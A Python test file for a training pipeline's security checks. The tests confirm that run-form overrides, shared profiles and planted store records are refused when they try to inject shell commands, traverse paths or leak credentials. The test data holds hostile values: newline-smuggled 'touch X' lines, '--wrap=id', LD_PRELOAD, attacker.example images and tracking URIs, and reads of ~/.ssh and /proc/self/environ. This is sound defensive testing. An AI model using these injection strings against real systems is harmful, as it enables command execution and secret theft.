"""Attacks through a run form, a shared profile and the store, each written as the attacker would try it
(docs/security.md). Pure logic: no process is started."""

from __future__ import annotations

import json
import os
import shlex
from pathlib import Path

import pytest

from trainpipe.trainer.errors import LaunchError, ProfileError, StoreError
from trainpipe.trainer.profile_files import load_profile

SECRET = "s3cr3t-aws-key-0a9f2e"


def refused(overrides: list[str], profile: str = "local") -> str:
    """The one line a run with ``overrides`` is refused with, where the run is resolved: the profile, then its
    launcher's own section (each launcher's module checks its options)."""
    from trainpipe.trainer.launch import check_launcher

    with pytest.raises(ProfileError) as exc:
        check_launcher(load_profile(profile, overrides))
    line = str(exc.value)
    assert "\n" not in line, line  # one line, whatever the value held
    return line


# ------------------------------------------------------------------ parameters are data, never templates


def test_an_override_never_reads_a_variable_into_a_value(home, monkeypatch):
    """The run form's `data.source=http://host/${AWS_SECRET_ACCESS_KEY}.txt` fetched that URL with the secret."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    for override in (
        "data.source=http://host/${AWS_SECRET_ACCESS_KEY}.txt",
        "tracking.experiment=${AWS_SECRET_ACCESS_KEY}",
        "model.config={x: '${AWS_SECRET_ACCESS_KEY}'}",
    ):
        line = refused([override])
        assert "expanded only in profile files" in line and SECRET not in line


def test_a_variable_holding_a_template_is_expanded_once(home, tmp_path, monkeypatch):
    """A value expanded from the file is never expanded again (it once was, for any string still holding '${')."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("TP_TEAM", "${AWS_SECRET_ACCESS_KEY}")
    path = tmp_path / "team.yaml"
    path.write_text("tracking:\n  experiment: team-${TP_TEAM}\n")
    assert load_profile(str(path)).tracking.experiment == "team-${AWS_SECRET_ACCESS_KEY}"


# ------------------------------------------------------------------ the run form: only what the operator allows


@pytest.mark.parametrize(
    "override",
    [
        "store.root=/tmp/elsewhere",  # the records and checkpoints of other runs
        "data.source=~/.ssh",  # any file the worker can read, as tokens in a shard
        "data.source=/proc/self/environ",
        "data.tokenizer=/dev/zero",
        "launcher.kubernetes.image=attacker.example/steal:1",  # the Secret's credentials to an image of its choice
        "launcher.kubernetes.namespace=attacker",
        "launcher.slurm.partition=gpu",
        "tracking.tracking_uri=http://attacker.example:5000",
        "model.factory=antigravity:main",  # an import of any module
        "model.config={x: 1}",
        "deploy.overridable=[store.*]",  # widening the list itself
        "cluster.master_addr=attacker.example",
    ],
)
def test_a_run_form_may_override_only_the_keys_the_operator_allows(home, override):
    from trainpipe.trainer.orchestrate.resolve import check_form_request

    with pytest.raises(ProfileError, match="cannot be set from the run form"):
        check_form_request("local", [override])


def test_a_run_form_may_set_what_a_user_changes_between_runs(home):
    from tests.conftest import TINY
    from trainpipe.trainer.orchestrate.resolve import check_form_request

    check_form_request("local", [*TINY, "faults.kind=crash", "preflight.enabled=false"])


@pytest.mark.parametrize("profile", ["/tmp/planted.yaml", "../profiles/local", "local.yaml"])
def test_a_run_form_names_a_shipped_profile_not_a_path(home, profile):
    from trainpipe.trainer.orchestrate.resolve import check_form_request

    with pytest.raises(ProfileError, match="not one of the deployment's profiles"):
        check_form_request(profile, [])


def test_a_path_from_the_run_form_stays_under_the_operators_roots(home, tmp_path, monkeypatch):
    from trainpipe.trainer.orchestrate.run_form import check_form_overrides

    corpora, outside = tmp_path / "corpora", tmp_path / "secrets"
    corpora.mkdir()
    outside.mkdir()
    (corpora / "a.txt").write_text("text")
    (corpora / "leak").symlink_to(outside)
    path = tmp_path / "team.yaml"
    path.write_text(f"deploy:\n  overridable: [data.source, train.steps]\n  path_roots: ['{corpora}']\n")
    prof = load_profile(str(path))
    check_form_overrides(prof, [f"data.source={corpora}/a.txt", "train.steps=3", "data.source=stdlib"])
    for bad in (f"{corpora}/../secrets", f"{corpora}/leak/key", "~/.ssh", f"{corpora}/*", str(outside)):
        with pytest.raises(ProfileError, match=r"not under the profile's deploy\.path_roots"):
            check_form_overrides(prof, [f"data.source={bad}"])


# ------------------------------------------------------------------ strings checked against where they go


@pytest.mark.parametrize(
    "override",
    [
        'launcher.slurm.partition="gpu\\ntouch X #"',
        'launcher.slurm.account="acct\\ntouch X #"',
        'launcher.excluded_nodes=["gpu-7\\ntouch X #"]',
        "launcher.excluded_nodes=['gpu-7 --wrap=id']",
        "launcher.slurm.sbatch_options=['--exclusive\\ntouch X']",
        "launcher.slurm.sbatch_options=[--wrap=id]",
        "launcher.slurm.sbatch_options=[--export=ALL,LD_PRELOAD=/tmp/x.so]",
        "launcher.slurm.sbatch_options=['--comment=a b']",
        "launcher.kubernetes.image='img:1 --privileged'",
        "launcher.kubernetes.runtime=Torch_Runtime",
        "launcher.python='python; id'",
        "launcher.kubernetes.resources={limits: {'nvidia.com/gpu x': 1}}",
        "cluster.master_addr='host; id'",
        'tracking.experiment="exp\\u2028two"',
        'train.run_name="run\\n"',
    ],
)
def test_a_value_that_would_escape_its_place_is_refused_naming_the_key(home, override):
    line = refused([override])
    assert override.split("=", 1)[0] in line


def test_a_shared_dir_with_blanks_is_refused_for_slurm_only(home):
    refused(["launcher.kind=slurm", "preflight.enabled=false", "launcher.shared_dir=/tmp/a b"])
    assert load_profile("local", ["launcher.shared_dir=/tmp/a b"]).launcher.shared_dir == "/tmp/a b"


def test_yaml_values_of_no_json_type_are_one_line(home, tmp_path):
    for body in ("model:\n  config: {x: !!binary aGVsbG8=}\n", "model:\n  config: {when: 2024-01-01}\n"):
        path = tmp_path / "odd.yaml"
        path.write_text(body)
        with pytest.raises(ProfileError, match=r"model\.config: .* not text, a number"):
            load_profile(str(path))


def test_a_planted_excluded_nodes_record_never_reaches_the_job_script(home):
    """`runs/R/excluded_nodes.json` holding ["gpu-7\\ntouch X #"] was rendered into the sbatch script."""
    from trainpipe.trainer.orchestrate.records import RunRecords
    from trainpipe.trainer.store import write_json_uri
    from trainpipe.trainer.store_paths import RunPaths

    prof = load_profile("local")
    write_json_uri(RunPaths(prof.store.root, "r").excluded_nodes, {}, ["gpu-7\ntouch X #"])
    with pytest.raises(StoreError, match="is not a list of node names"):
        RunRecords(prof.store, "r").excluded_nodes()
    write_json_uri(RunPaths(prof.store.root, "r").excluded_nodes, {}, ["gpu-7"])
    assert RunRecords(prof.store, "r").excluded_nodes() == ["gpu-7"]


def test_the_job_script_has_one_line_per_setting(home, tmp_path):
    from trainpipe.trainer.launch.slurm import sbatch_script

    sets = ["launcher.kind=slurm", "preflight.enabled=false", "launcher.slurm.partition=gpu"]
    sets += ["launcher.slurm.account=ml"]
    sets += ["launcher.excluded_nodes=[gpu-7, gpu-9]", "launcher.slurm.sbatch_options=['--gres=gpu:8', --exclusive]"]
    prof = load_profile("local", sets)
    script = sbatch_script(prof, "run-1", 1, tmp_path)
    directives = [line for line in script.splitlines() if line.startswith("#SBATCH")]
    assert "#SBATCH --exclude=gpu-7,gpu-9" in directives and "#SBATCH --gres=gpu:8" in directives
    srun = script.splitlines()[-1]
    assert shlex.split(srun)[:3] == ["srun", "--ntasks-per-node=1", "--kill-on-bad-exit=0"]
    for bad in (("run\ntouch X", tmp_path), ("run", tmp_path / "a b"), ("run", Path("relative"))):
        with pytest.raises(LaunchError):
            sbatch_script(prof, bad[0], 1, bad[1])


def test_an_attempt_request_a_standing_host_reads_is_signed_data_checked_by_its_grammar(tmp_path):
    """The follower asks a held job's hosts for the next attempt with ``request-{N}.json`` in the job's folder (the
    shared folder under Slurm, the store under Kubernetes, which others may write): one not signed with the job's
    token, or a signed one naming another folder, a hostile run id or dataset, with an unknown field, another
    attempt's number, a huge file or a FIFO, is left alone and said, never run."""
    from trainpipe.trainer.supervise.allocation import AttemptRequest, Requests, request_name

    key, text = "the-jobs-token", "train:\n  steps: 8\n"
    good = {"attempt": 2, "folder": "attempt-2-abcdef", "dataset_uri": "file:///d", "mlflow_run_id": "0" * 32}
    requests = Requests(str(tmp_path), None, key)
    path = tmp_path / request_name(2)
    signed = AttemptRequest.signed(key, text, **good).model_dump()
    hostile = [
        AttemptRequest.signed("another-token", text, **good).model_dump(),  # planted without the token
        {**signed, "dataset_uri": "file:///elsewhere"},  # changed after signing
        {**signed, "mac": ""},
        {**signed, "folder": "../../etc"},
        {**signed, "mlflow_run_id": "x; touch pwned"},
        {**signed, "python": "/bin/sh"},
        AttemptRequest.signed(key, text, **{**good, "attempt": 3}).model_dump(),  # another attempt's
        AttemptRequest.signed(key, text, **{**good, "dataset_uri": "file:///d\n--set x"}).model_dump(),
    ]
    for body in hostile:
        path.write_text(json.dumps(body))
        assert requests.next(1) is None, body
    path.write_text(json.dumps({**signed, "dataset_uri": "x" * 70_000}))
    assert requests.next(1) is None
    path.unlink()
    os.mkfifo(path)  # opened for reading, it would block the host for good
    assert requests.next(1) is None
    path.unlink()
    path.write_text(json.dumps(signed))
    request = requests.next(1)
    assert request.attempt == 2 and request.folder == "attempt-2-abcdef" and request.mlflow_run_id == "0" * 32
    assert requests.next(2) is None  # answered already: the host waits for the next one
    assert Requests(str(tmp_path), None, "").next(1) is None  # a host without the token runs nothing


def test_a_request_that_does_not_verify_moves_nothing_so_the_hosts_still_hear_the_signed_ones(tmp_path, caplog):
    """A bucket writer plants ``request-999999.json`` and a ``request-3.json`` of its own: the hosts say each once
    and still run the follower's signed attempts 2 and 3 (the follower's request 3 is written over the planted
    one), in order."""
    from trainpipe.trainer.supervise.allocation import AttemptRequest, Requests, request_name

    key, text = "the-jobs-token", "train:\n  steps: 8\n"
    requests = Requests(str(tmp_path), None, key)

    def signed(attempt: int) -> str:
        fields = {"attempt": attempt, "folder": f"attempt-{attempt}-abcdef", "dataset_uri": "file:///d"}
        return AttemptRequest.signed(key, text, **fields).model_dump_json()

    (tmp_path / request_name(999_999)).write_text('{"attempt": 999999}')
    (tmp_path / request_name(3)).write_text(signed(3).replace("attempt-3-", "attempt-4-"))
    for _ in range(3):
        assert requests.next(1) is None
    assert sum("is not an attempt request" in r.message for r in caplog.records) == 2  # each said once
    (tmp_path / request_name(2)).write_text(signed(2))
    assert requests.next(1).attempt == 2
    assert requests.next(2) is None  # the planted 3 still is not one
    (tmp_path / request_name(3)).unlink()
    (tmp_path / request_name(3)).write_text(signed(3))  # the follower's own, written over the planted one
    assert requests.next(2).attempt == 3


# ------------------------------------------------------------------ redaction by structure


@pytest.mark.parametrize("password", ["pa/ss-9f3e1c4d", "p@ss:w/rd-77aa01", "pass%2Fword-55aa"])
def test_a_tracking_uri_password_is_hidden_whatever_characters_it_holds(home, tmp_path, password):
    from urllib.parse import unquote

    path = tmp_path / "db.yaml"
    path.write_text(f"tracking:\n  tracking_uri: 'postgresql://trainer:{password}@db:5432/mlflow'\n")
    prof = load_profile(str(path))
    recorded = json.dumps([prof.public(), prof.flat()]) + prof.public_yaml()
    assert password not in recorded and "db:5432/mlflow" in recorded
    assert prof.public()["tracking"]["tracking_uri"] == "postgresql://<redacted>@db:5432/mlflow"
    from trainpipe.trainer.redact import redact_text

    elsewhere = redact_text(f"could not connect as {unquote(password)}", prof._secrets)
    assert unquote(password) not in elsewhere  # the value itself, wherever it reappears


def test_redaction_keeps_a_path_that_only_holds_an_at():
    from trainpipe.trainer.redact import redact_text, without_userinfo

    assert redact_text("s3://bucket/data@v2/x") == "s3://bucket/data@v2/x"
    assert redact_text("see http://user@host/a@b now") == "see http://<redacted>@host/a@b now"
    assert redact_text("'https://u:p/w@h/x'") == "'https://<redacted>@h/x'"
    assert without_userinfo("http://u:p/w@host:5000/") == "http://host:5000/"


@pytest.mark.parametrize("key", ["store.root", "data.source", "data.tokenizer"])
def test_a_url_with_a_password_is_refused_where_it_would_reach_command_lines(home, tmp_path, key):
    """A `store.root` with user-info reached the ranks' command lines, the Slurm script and the TrainJob; a data
    source's password reached the dataset manifest, the error line and the shard task's name."""
    section, field = key.split(".")
    path = tmp_path / "leak.yaml"
    path.write_text(f"{section}:\n  {field}: 'https://reader:pw/9f3e1c@files.example/corpus'\n")
    with pytest.raises(ProfileError) as exc:
        load_profile(str(path))
    assert "user-info" in str(exc.value) and "pw/9f3e1c" not in str(exc.value)


def test_the_mlflow_link_has_no_password():
    from trainpipe.trainer.tracking import run_page

    page = run_page("http://admin:pa/ss-1234@127.0.0.1:5000/", "3", "ab" * 16)
    assert page == f"http://127.0.0.1:5000/#/experiments/3/runs/{'ab' * 16}/model-metrics?workflowType=machine_learning"


def test_a_default_shared_dir_the_script_cannot_hold_is_one_line(tmp_path, monkeypatch):
    monkeypatch.setenv("TRAINPIPE_HOME", str(tmp_path / "a b"))
    line = refused(["launcher.kind=slurm", "preflight.enabled=false"])
    assert "launcher.shared_dir" in line and "no blanks" in line


def test_a_node_name_from_a_hosts_report_is_excluded_only_when_it_is_one(home):
    from trainpipe.trainer.orchestrate.records import RunRecords

    records = RunRecords(load_profile("local").store, "r")
    records.exclude_node("gpu-7\n#SBATCH --wrap=id")
    records.exclude_node("gpu-7")
    assert records.excluded_nodes() == ["gpu-7"]


# ------------------------------------------------------------------ found by review, as the attacker tried them


def test_a_chained_url_neither_escapes_the_roots_nor_hides_a_password(home, tmp_path):
    from trainpipe.trainer.orchestrate.run_form import check_form_overrides

    roots = tmp_path / "shared"
    roots.mkdir()
    path = tmp_path / "open.yaml"
    odd = "odd!root://x"  # a root that is no URL matches no value, not every value that is no URL either
    path.write_text(f"deploy:\n  overridable: [data.source]\n  path_roots: ['{roots}', 'file://{roots}', '{odd}']\n")
    prof = load_profile(str(path))
    for bad in (f"{roots}/../../../etc/passwd::memory://x", f"file://{roots}/../secrets", "mem!x://a/b"):
        with pytest.raises(ProfileError, match=r"not under the profile's deploy\.path_roots"):
            check_form_overrides(prof, [f"data.source={bad}"])
    line = refused(["data.source=simplecache::http://reader:S3cretPassw0rd@127.0.0.1:9/corpus.jsonl"])
    assert "user-info" in line and "S3cretPassw0rd" not in line


def test_a_store_option_of_any_name_filled_from_the_environment_is_hidden(home, tmp_path, monkeypatch):
    monkeypatch.setenv("AZURE_STORAGE_CONNECTION_STRING", "AccountName=a;AccountKey=c2VjcmV0LWtleQ==")
    monkeypatch.setenv("TP_ENDPOINT", "http://127.0.0.1:9")
    path = tmp_path / "azure.yaml"
    path.write_text(
        "store:\n  storage_options:\n    conn: ${AZURE_STORAGE_CONNECTION_STRING}\n"
        "    endpoint_url: ${TP_ENDPOINT}\n    client_kwargs: {sftp_passphrase: correct-horse-battery}\n"
    )
    prof = load_profile(str(path))
    recorded = prof.public_yaml() + json.dumps(prof.flat())
    assert "c2VjcmV0LWtleQ" not in recorded and "correct-horse-battery" not in recorded
    assert "http://127.0.0.1:9" in recorded  # an endpoint is not a credential: an error line may name it


def test_mlflow_errors_do_not_carry_the_tracking_password(home, monkeypatch):
    from trainpipe.trainer.config import TrackingConfig
    from trainpipe.trainer.errors import TrackingError
    from trainpipe.trainer.tracking import tracked_run

    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_TIMEOUT", "3")
    cfg = TrackingConfig(tracking_uri="http://trainer:S3cretPassw0rd@127.0.0.1:9/", experiment="e")
    with pytest.raises(TrackingError) as exc, tracked_run(cfg, "r"):
        pass
    assert "S3cretPassw0rd" not in str(exc.value) and "127.0.0.1:9" in str(exc.value)


@pytest.mark.parametrize(
    "override",
    ["train.steps=1000000000000", "train.max_retries=1000000", "cluster.procs_per_node=100000", "train.lr=1e9"],
)
def test_an_override_keeps_the_bounds_of_the_forms_typed_field(home, override):
    from trainpipe.flows.parameters import PipelineParameters

    params = PipelineParameters(profile="local", overrides=[override])
    with pytest.raises(ProfileError, match=r"the form's"):
        params.check_override_bounds()


@pytest.mark.parametrize("override", ["faults.kind=hang", "watchdog.enabled=false", "watchdog.stack_dump_s=1e9"])
def test_by_default_a_form_can_neither_inject_faults_nor_switch_supervision_off(home, tmp_path, override):
    from trainpipe.trainer.orchestrate.run_form import check_form_overrides

    (tmp_path / "plain.yaml").write_text("train:\n  steps: 3\n")
    with pytest.raises(ProfileError, match="cannot be set from the run form"):
        check_form_overrides(load_profile(str(tmp_path / "plain.yaml")), [override])
    check_form_overrides(load_profile("local"), ["faults.kind=hang"])  # local.yaml opens drills: [default, faults.*]


@pytest.mark.parametrize(
    "overrides, says",
    [
        (["checkpoint.verify_state=false"], "checkpoint.verify_state=False cannot be set from the run form"),
        (["watchdog.hang_timeout_s=1e9"], "the longest it may be is 10s"),
        (["watchdog.hang_floor_s=3600"], "the profile's 10.0 is tighter"),
        (["watchdog.startup_timeout_s=1e9"], "watchdog.startup_timeout_s"),
        (["watchdog.on_straggler=exclude", "watchdog.straggler_factor=1.01"], "writes into the run's records"),
        (["watchdog.on_loss_spike=warn"], "a form may only make it 'stop'"),  # the default rolls back
        (["watchdog.loss_spike_factor=1.01"], "it feeds watchdog.on_loss_spike=rollback"),
        (["preflight.on_fail=exclude"], "writes into the run's records"),
        (["watchdog.gpu_idle_pct=0"], "watchdog.gpu_idle_pct"),
        (["watchdog.straggler_factor=1e6"], "watchdog.straggler_factor"),
        (["checkpoint.keep_last=1"], "the profile's 3 is tighter"),  # would prune a resumed run's checkpoints
        (["train.timeout_s=1e9"], "train.timeout_s"),
        (["faults.kind=loss_spike"], "sets watchdog.on_loss_spike=rollback off"),  # local.yaml opens faults.*
    ],
)
def test_a_run_form_may_not_make_a_run_less_guarded(home, overrides, says):
    """The default list holds how a run trains and is watched; a form may tighten a guard (noisier, shorter), never
    loosen one, and never choose a policy that writes into the run's records (a form user can name another user's
    run in the resume field: a straggler factor near 1 under exclude would write a healthy node into it)."""
    from trainpipe.trainer.orchestrate.resolve import check_form_request

    with pytest.raises(ProfileError, match="never less guarded") as exc:
        check_form_request("local", overrides)
    assert says in str(exc.value) and "\n" not in str(exc.value), str(exc.value)


@pytest.mark.parametrize(
    "override", ["watchdog.hang_timeout_s=0.01", "watchdog.pg_timeout_s=1", "watchdog.startup_timeout_s=1"]
)
def test_across_nodes_a_form_may_not_make_hangs_or_crashes_that_exclude_a_node(home, override):
    """On more than one node a host that hung or crashed twice is excluded from the run, whatever the policies say:
    a hang allowance of 10 ms (tighter, and noisier) would write a healthy node into the run's exclusions."""
    from trainpipe.trainer.orchestrate.resolve import check_form_request

    with pytest.raises(ProfileError, match="a node's exclusion after two crashes or hangs"):
        check_form_request("multi-node-local", [override])
    check_form_request("local", [override])  # one node: nothing to exclude


def test_a_run_form_may_tighten_a_guard_and_the_operator_may_open_one_by_name(home, tmp_path):
    from trainpipe.trainer.orchestrate.run_form import check_form_overrides

    tighter = [
        "watchdog.hang_timeout_s=5",
        "watchdog.straggler_factor=1.2",  # noisier: under warn a straggler is only said
        "watchdog.on_straggler=abort",
        "watchdog.on_flatline=stop",
        "watchdog.gpu_idle_pct=50",
        "preflight.enabled=false",  # shorter: the train stage's watchdog still guards the run
        "checkpoint.verify_state=true",
    ]
    check_form_overrides(load_profile("local"), tighter)
    strict = tmp_path / "strict.yaml"
    strict.write_text("watchdog:\n  on_straggler: abort\n")
    with pytest.raises(ProfileError, match="the profile's 'abort' acts harder"):
        check_form_overrides(load_profile(str(strict)), ["watchdog.on_straggler=warn"])
    excluding = tmp_path / "excluding.yaml"
    excluding.write_text("watchdog:\n  on_straggler: exclude\npreflight:\n  on_fail: exclude\n")
    for override in ("watchdog.straggler_factor=1.01", "preflight.max_compute_slowdown=1.01"):
        with pytest.raises(ProfileError, match="which writes into the run's records"):
            check_form_overrides(load_profile(str(excluding)), [override])
    check_form_overrides(load_profile(str(excluding)), ["preflight.enabled=false", "watchdog.hang_factor=5"])
    opened = tmp_path / "opened.yaml"
    opened.write_text("deploy:\n  overridable: [default, watchdog.hang_timeout_s, checkpoint.verify_state]\n")
    check_form_overrides(load_profile(str(opened)), ["watchdog.hang_timeout_s=1e9", "checkpoint.verify_state=false"])


@pytest.mark.parametrize(
    "override",
    [
        "launcher.python=-J",
        "launcher.slurm.sbatch_options=[--nodelist=/root/.ssh/id_rsa]",
        "launcher.slurm.sbatch_options=[--mail-user=x@evil.example]",
    ],
)
def test_a_value_srun_or_sbatch_would_read_another_way_is_refused(home, override):
    refused([override])


def test_a_recorded_train_job_in_another_namespace_is_left_alone(home):
    from trainpipe.trainer.launch import kubernetes
    from trainpipe.trainer.launch.jobs import LiveJob

    prof = load_profile(
        "local", ["launcher.kind=kubernetes", "launcher.kubernetes.image=r.example/t:1", "preflight.enabled=false"]
    )
    job = LiveJob(launcher="kubernetes", attempt=1, namespace="team-b", name="tp-r-a1-ab12")
    stopped, line = kubernetes.stop_left(prof, "r", job)  # no API call: nothing of team-b's is touched
    assert not stopped and "not in launcher.kubernetes.namespace" in line


# ------------------------------------------------------------------ two earlier promises (issue 39, point 9)


@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf", "[1.0, .nan]", "{inner: .nan}"])
def test_a_nan_anywhere_in_a_free_form_section_is_refused_naming_the_key(home, tmp_path, value):
    """``allow_inf_nan=False`` holds for typed fields; ``model.config`` is a free dict the model factory gets as it
    is, and the records write a NaN as null: a shared profile's ``.nan`` would train one model and record another."""
    path = tmp_path / "nan.yaml"
    path.write_text(f"model:\n  config:\n    rms_norm_eps: {value}\n")
    with pytest.raises(ProfileError, match=r"model\.config.*NaN or an infinity") as exc:
        load_profile(str(path))
    assert "\n" not in str(exc.value)


def test_an_mlflow_failure_logged_by_the_train_task_carries_no_password(home, monkeypatch):
    """A shared profile's tracking URI with user-info: the MLflow client's own exception quotes the URL it called,
    and the train task logs a bookkeeping failure as a warning instead of failing the attempt."""
    from trainpipe.tasks.train import Keep, publish
    from trainpipe.trainer.incidents import Incident
    from trainpipe.trainer.launcher import AttemptOutcome, JobOutcome
    from trainpipe.trainer.orchestrate.records import RunRecords
    from trainpipe.trainer.tracking import TrackedRun

    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_TIMEOUT", "3")
    prof = load_profile("local", ["tracking.tracking_uri=http://trainer:S3cretPassw0rd@127.0.0.1:9/"])
    tracked, records = TrackedRun.of(prof.tracking, "0" * 32), RunRecords(prof.store, "r1")
    said: list[str] = []

    class Logger:
        def warning(self, msg, *args):
            said.append(msg % args)

    incident = Incident(kind="crash", detail="rank 1 exited", attempt=1)
    outcome = AttemptOutcome(1, JobOutcome(1, 1.0), None, incident, scores=[{"step": 4, "score": {0: 1.0}}])
    publish(outcome, tracked, records, Logger(), prof.hide)
    Keep(Logger(), prof.hide)("the incidents in MLflow", tracked.set_tags, {"a": "b"})
    assert len(said) == 2 and all("127.0.0.1:9" in line for line in said), said
    assert not any("S3cretPassw0rd" in line for line in said), said


@pytest.mark.parametrize(
    "override", ["preflight.gemm_n=1000000", "preflight.allreduce_mb=1e6", "preflight.store_probe_mb=1e6"]
)
def test_the_forms_preflight_sizes_have_an_upper_bound(home, override):
    """preflight.* is on the default list: a form may size its probes, within what a machine holds (a gemm_n of a
    million would ask for 12 TB)."""
    from trainpipe.trainer.orchestrate.resolve import check_form_request

    with pytest.raises(ProfileError, match="less than or equal to") as exc:
        check_form_request("local", [override])
    assert override.split("=")[0] in str(exc.value)


# ------------------------------------------------------------------ a launcher's own section (launcher.<kind>)


def test_a_secret_in_a_launchers_own_option_is_never_shown_in_its_error_line(home, tmp_path, monkeypatch):
    """An expanded secret or a URL's user-info in a bad launcher option: the one line names the key, never the
    value's secret (it reaches stderr and the flow run's log, which run-form users read)."""
    from trainpipe.trainer.launch import check_launcher

    monkeypatch.setenv("DEPLOY_TOKEN", "s3cr3t-Tok3n-9f2a")
    planted = tmp_path / "k8s.yaml"
    planted.write_text('launcher:\n  kind: kubernetes\n  kubernetes:\n    image: "reg.example/x:${DEPLOY_TOKEN}!"\n')
    with pytest.raises(ProfileError) as exc:
        check_launcher(load_profile(str(planted)))
    assert str(exc.value).startswith("launcher.kubernetes.image: not a container image") and "s3cr3t" not in str(
        exc.value
    ), str(exc.value)
    with pytest.raises(ProfileError) as exc:
        check_launcher(load_profile("local", ["launcher.slurm.partition=https://ops:Pa55w0rd-77@x"]))
    assert "Pa55w0rd-77" not in str(exc.value) and "launcher.slurm.partition" in str(exc.value)


def test_an_operator_opens_one_item_of_a_launchers_section_and_the_rest_stays_closed(home, tmp_path):
    """deploy.overridable may name one item (launcher.kubernetes.resources): a form may set it, and not the image,
    the namespace or the kubeconfig context beside it."""
    from trainpipe.flows.parameters import PipelineParameters
    from trainpipe.trainer.orchestrate.run_form import check_form_overrides

    opened = tmp_path / "opened.yaml"
    opened.write_text("deploy:\n  overridable: [default, launcher.kubernetes.resources]\n")
    prof = load_profile(str(opened))
    check_form_overrides(prof, ["launcher.kubernetes.resources={limits: {cpu: 4}}"])
    for closed in ("launcher.kubernetes.image=evil.example/x:1", "launcher.kubernetes.kube_context=prod-admin"):
        with pytest.raises(ProfileError, match="cannot be set from the run form"):
            check_form_overrides(prof, [closed])
    # an item, or a list value, is one line or passes: never a traceback
    PipelineParameters(profile="local", overrides=["launcher.slurm.partition=gpu"]).check_override_bounds()
    with pytest.raises(ProfileError, match="cannot be set from the run form"):
        check_form_overrides(load_profile("local"), ["launcher.slurm.sbatch_options=[--qos=x]"])


def test_a_planted_job_record_of_another_launcher_stops_the_run_before_any_command(home, monkeypatch):
    """jobs.json in the bucket naming a Slurm job for a local run: no squeue, no Kubernetes API call, one line."""
    from trainpipe.trainer.errors import StoreError
    from trainpipe.trainer.launch import jobs
    from trainpipe.trainer.store import write_json_uri
    from trainpipe.trainer.store_paths import RunPaths

    prof = load_profile("local")
    planted = [{"launcher": "slurm", "attempt": 1, "job_id": "1234"}]
    write_json_uri(RunPaths(prof.store.root, "r").live_jobs, {}, planted)
    monkeypatch.setenv("PATH", "/nonexistent")  # squeue would fail another way, were it called
    with pytest.raises(StoreError, match=r"records slurm job 1234 \(attempt 1\) of launcher slurm, not this run's "):
        jobs.stop_left_jobs(prof, "r")


def test_a_key_with_a_control_character_is_one_line_wherever_it_is_read(home, tmp_path):
    """A profile key (a file's, or a manifest's from the store) holding a newline cannot forge a second line."""
    from trainpipe.trainer.profile_files import build_profile

    for raw in ({"launcher": {"x\nerror: forged": {}}}, {"train": {"x\nerror: forged": 1}}):
        with pytest.raises(ProfileError) as exc:
            build_profile(raw, origin="a manifest")
        assert "\n" not in str(exc.value) and "forged" in str(exc.value), str(exc.value)


@pytest.mark.parametrize(
    "override,commands",
    [
        ("model.config.apikey=k-123", ["run", "compare", "ckpt", "validate"]),
        ("model.config.passwd=x", ["run", "compare", "ckpt", "validate"]),
        ("store.storage_options.secret=x", ["run", "compare", "ckpt", "validate"]),
        ("tracking.tracking_uri=https://ops:Pa55@mlflow.example", ["run", "compare", "ckpt", "validate"]),
        # a flow's parameters are stored in clear: what leads to credentials stays out of them
        ("store.storage_options.endpoint_url=http://x", ["run", "validate"]),
    ],
)
def test_a_credential_item_is_refused_by_every_command_that_takes_set(home, cli, override, commands):
    argv = {
        "run": ["run"],
        "compare": ["compare", "a", "b"],
        "ckpt": ["ckpt", "list", "r"],
        "validate": ["validate", "/x"],
    }
    for command in (argv[c] for c in commands):
        code, _, err = cli(*command, "--set", override)
        assert code != 0 and "cannot be set as a parameter" in err and len(err.strip().splitlines()) == 1, (
            command,
            err,
        )


@pytest.mark.parametrize("value", ["9" * 5000, "[" * 3000 + "]" * 3000])
def test_a_value_too_large_or_deep_to_read_is_one_line(home, value):
    line = refused([f"train.steps={value}"])
    assert "too large or nested too deeply" in line and len(line) < 300
